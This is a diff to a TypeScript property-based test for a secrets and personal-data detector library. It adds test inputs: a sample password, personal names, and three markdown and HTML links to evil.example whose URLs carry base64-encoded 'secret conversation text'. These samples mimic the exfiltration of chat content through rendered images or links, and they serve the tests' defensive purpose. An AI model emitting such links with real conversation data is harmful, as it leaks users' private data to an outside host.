@@ -26,7 +26,15 @@ function everywhere(detector: Pattern, text: string): readonly RankedMatch[] {
 }
 
 const secrets = [prefixTexts, contextTexts].flatMap((texts) => texts(openRandom(5), 200)).map(({ text }) => text);
-const value = fc.oneof(fc.constantFrom(...namedValues), fc.constantFrom(...secrets), fc.constant('password = "S0mmer-2026!"'));
+const others = [
+  'password = "S0mmer-2026!"',
+  'Dear Maria van der Berg',
+  "ann o'neill",
+  '![a](https://evil.example/p.png?q=c2VjcmV0IGNvbnZlcnNhdGlvbiB0ZXh0)',
+  '[a]: <http://evil.example/c2VjcmV0IGNvbnZlcnNhdGlvbiB0ZXh0c2VjcmV0IGNvbnZlcnNhdGlvbiB0ZXh0',
+  '<img src="https://evil.example/?d=c2VjcmV0IGNvbnZlcnNhdGlvbiB0ZXh0">',
+];
+const value = fc.oneof(fc.constantFrom(...namedValues), fc.constantFrom(...secrets), fc.constantFrom(...others));
 
 /** What the values have in common with what is none: groups of all lengths, signs between them, words before and letters behind. */
 const group = fc.oneof(
@@ -68,7 +76,14 @@ const text = fc.array(fc.tuple(part, sign), { maxLength: 6 }).map((parts) => par
 describe('where a detector looks', () => {
   it.each(patterns)('$name: nowhere else is a match', ({ detector }) => {
     const set = detectorSet([{ detector, priority: 1 }]);
-    for (const each of [...namedValues, namedValues.join(' '), namedValues.join(''), ...secrets.slice(0, 40)]) {
+    for (const each of [
+      ...namedValues,
+      ...others,
+      others.join(' '),
+      namedValues.join(' '),
+      namedValues.join(''),
+      ...secrets.slice(0, 40),
+    ]) {
       expect(collectMatches(set, each, 0, each.length)).toEqual(everywhere(detector, each));
     }
     fc.assert(
